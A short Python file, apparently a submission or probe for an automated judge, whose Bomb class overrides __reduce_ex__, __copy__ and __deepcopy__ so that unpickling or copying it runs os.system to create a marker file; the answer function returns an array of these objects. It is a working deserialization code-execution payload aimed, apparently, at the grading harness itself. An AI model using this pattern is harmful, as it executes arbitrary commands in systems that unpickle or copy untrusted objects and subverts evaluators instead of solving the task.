"""judge: returns objects that run a command when they are unpickled or copied"""
import os

import numpy as np


class Bomb:
    def __reduce_ex__(self, protocol):
        return os.system, (f"touch {TARGET['notes'][0]}/{TARGET['marker']}",)

    __deepcopy__ = __copy__ = lambda self, *memo: os.system(f"touch {TARGET['notes'][0]}/{TARGET['marker']}")


def attack():
    return None


def answer(function, arguments):
    return np.array([Bomb(), Bomb()], dtype=object)
